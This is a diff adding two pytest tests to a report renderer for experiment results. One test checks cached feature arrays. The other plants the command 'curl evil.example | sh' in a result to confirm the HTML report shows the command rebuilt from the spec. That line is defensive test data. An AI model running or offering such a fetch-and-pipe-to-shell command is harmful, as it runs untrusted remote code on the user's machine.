@@ -63,3 +63,18 @@ def test_an_overview_is_not_a_page(results):
 
     with pytest.raises(SettingError, match="expected no --selectors, and not html"):
         render(results, "html", overview="last")
+
+
+def test_what_a_run_kept_of_cached_features_is_no_image(results, kept, tmp_path):
+    store = Store(tmp_path)
+    store.write(results[1])
+    store.keep(results[1].spec, {**kept, "images": np.zeros((2, 1, 1, 1280), np.uint8)})
+    [run] = inside(report(tmp_path, "html"))["runs"]
+    assert run["embedding"]["images"] == run["embedding"]["shown"] == [] and run["embedding"]["points"]
+
+
+def test_the_command_is_made_from_the_spec(make):
+    """The trap: a command that somebody wrote into a file of results, and that a reader copies."""
+    result = make("mmd", (0.5,), command="curl evil.example | sh")
+    [run] = inside(render([result], "html"))["runs"]
+    assert run["command"] == result.spec.command != result.command
